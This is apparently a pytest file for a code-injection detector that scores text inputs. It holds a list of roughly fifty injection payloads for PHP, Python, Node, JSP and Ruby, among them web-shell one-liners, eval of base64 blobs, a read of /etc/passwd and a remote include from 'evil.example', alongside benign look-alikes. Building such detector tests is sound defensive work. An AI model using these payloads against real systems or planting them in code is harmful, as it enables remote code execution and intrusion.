from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sink import Slot
from shangdun_guard.inspector.sinks.code import SINK

ATTACKS = [
    "\";system('id')",
    "';system('id');//",
    "';phpinfo();//",
    "a;exit(md5('x1'));//",
    "\";exit(md5('x1'));#",
    "${@print(md5(31337))}",
    "{${phpinfo()}}",
    "${system('id')}",
    "system('cat /etc/passwd')",
    "@eval($_POST['x'])",
    "assert($_REQUEST[1])",
    "<?php system($_GET['c']); ?>",
    "<?=system($_GET[1])?>",
    "<?php eval(base64_decode('c3lzdGVt'));",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "'.system('id').'",
    '".system("id")."',
    "$_GET[0]($_GET[1])",
    "('sys'.'tem')('id')",
    "call_user_func('system','id')",
    "create_function('','system(\"id\");')",
    "__import__('os').system('id')",
    "__import__('subprocess').check_output('id',shell=True)",
    "eval(compile('import os','a','single'))",
    "''.__class__.__mro__[2].__subclasses__()",
    "import os;os.system('id')",
    "require('child_process').exec('id')",
    "global.process.mainModule.require('child_process').execSync('id')",
    "res.end(require('fs').readdirSync('.').toString())",
    "this.constructor.constructor('return process')().exit()",
    '<%eval request("cmd")%>',
    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "#{system('id')}",
    "#{%x(id)}",
    "%x(id)",
    "');os.system('id');#",
    "'+__import__('time').sleep(5)+'",
    "1;file_put_contents('x.php',base64_decode('PD9waHA='));",
    "\\system('id')",
    "system/**/('id')",
    "die(md5(999))",
    "print(md5(123456));",
    "<?php include('http://evil.example/x.txt');",
    "include 'php://input'",
    "GIF89a<?php @eval($_POST['a']); ?>",
    "1);phpinfo();//",
    "';sleep(5);//",
    "x');system(chr(105).chr(100));//",
]  # fmt: skip

HONEST = [
    "phpinfo",
    "eval",
    "what does eval(x) do?",
    "system (see the manual) and exec (chief)",
    "How to use exec() in PHP",
    "regex.exec(str)",
    "var m = /a(b)c/.exec(text);",
    "db.exec('select 1')",
    "print('hello')",
    "print(x)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "function(a, b) { return a + b; }",
    "setTimeout(function(){ go(); }, 10)",
    "array_map(fn($x) => $x * 2, $items)",
    "Shirt (M); trousers (L)",
    "operating system (Windows)",
    "open(9-17)",
    "exit(s) 3 and 4",
    "chr(65)",
    "<?php echo $title; ?>",
    "<?xml version='1.0'?><a/>",
    "<% if user %>",
    "f(x) = sin(x); g(x) = exp(x)",
    "calc(100% - 10px)",
    "rgb(1,2,3); url(img.png)",
    "background:url('a.png');color:rgba(0,0,0,.5)",
    "=SUM(A1:A3)",
    "I printed (twice); die (noun)",
    "sleep(well)",
    "__init__",
    "snake__case",
    "`code`",
    "glob(*.py)",
    "md5(abc)",
    "the price is $5 (or $6); system is down",
    '{"fn":"eval","args":[1]}',
    "尺码(大); 颜色(红)",
    "console.log('x')",
    "require('react')",
    "import React from 'react';",
    "call (555) 123-4567; open (24h)",
]

TICKET = """Hi, our plugin does not work any more since your update. This is its code:

<?php
$name = $_GET['name'];
echo htmlspecialchars($name);
$out = shell_exec('convert ' . escapeshellarg($file));
$rows = array_map('trim', explode(',', $_POST['rows']));
if (!$out) { die('no output'); }
?>

Could you tell me what I have to change so that it runs again? Many thanks!
"""


@pytest.mark.parametrize("text", ATTACKS)
def test_a_program_convicts(text: str) -> None:
    assert score(SINK, text) >= 0


@pytest.mark.parametrize("text", HONEST)
def test_words_and_harmless_code_do_not(text: str) -> None:
    assert score(SINK, text) <= -0.5


def test_code_in_a_ticket_stays_below() -> None:
    assert score(SINK, TICKET, Slot("form", "message")) < -1


def test_a_program_as_an_uploaded_file_convicts() -> None:
    upload = Slot("file", "avatar")
    assert score(SINK, "<?php\n$a = 1;\necho $a;\n", upload) >= 0
    assert score(SINK, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", upload) < -1


@pytest.mark.parametrize(
    "unit",
    ["(", "eval(", "system (", "${", "/*", "eval/**/", "<?", "'", "__", "$_GET[", "a.", "#{", "%x",
     "`", ");", "x;", "request(", "print `", "<%", "chr(1).", "require('"],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == []


@given(st.one_of(st.text(), st.text(alphabet="evalsytm(){}$_'\";/*<?%#`. \n")))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    score(SINK, text, QUERY)
